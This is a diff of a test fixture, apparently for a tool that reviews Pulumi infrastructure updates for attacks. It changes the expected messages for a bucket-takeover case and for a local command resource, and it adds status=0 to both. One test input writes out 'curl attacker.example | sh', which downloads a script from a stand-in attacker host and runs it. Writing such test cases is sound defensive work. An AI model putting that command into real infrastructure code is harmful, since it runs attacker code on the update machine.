@@ -123,7 +123,8 @@ ATTACKS: Final = (
     Attack(
         "existing-bucket-taken-over",
         _last(_IMPORTED),
-        ("`storage.Bucket` `b` has `payroll`, which changes what an update does",),
+        ("`storage.Bucket` `b` has `payroll`, whose effect this review cannot show",),
+        status=0,
     ),
     Attack(
         "provider-downloaded-from-elsewhere",
@@ -319,7 +320,8 @@ ATTACKS: Final = (
     Attack(
         "command-on-the-machine-of-the-update",
         _last('pulumi.CustomResource("command:local:Command", "c", {"create": "curl attacker.example | sh"})'),
-        ("`c` runs commands on the machine of the update",),
+        ("`c` is of the type `command:local:Command`",),
+        status=0,
     ),
     Attack(
         "composes-the-name-of-the-mocks",
